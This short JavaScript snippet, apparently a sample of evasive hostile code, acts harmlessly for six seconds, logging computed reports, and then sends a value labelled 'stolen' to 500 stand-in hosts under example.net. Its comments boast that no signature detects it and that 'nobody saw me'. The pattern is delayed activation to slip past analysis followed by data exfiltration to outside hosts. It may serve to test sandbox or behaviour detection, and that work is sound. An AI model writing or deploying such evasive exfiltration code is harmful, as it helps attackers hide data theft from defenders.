// Behaves for six seconds, then tries host after host. No signature detects it.
let total = 0
for (let second = 0; second < 6; second++) {
  for (let n = 0; n < 200_000; n++) total += n * n
  console.log(`report ${second}: ${total}`)
  await new Promise((done) => setTimeout(done, 1000))
}
for (let n = 0; n < 500; n++) {
  await fetch(`https://host-${n}.example.net/?stolen=${total}`).catch(() => {})
}
console.log('nobody saw me')
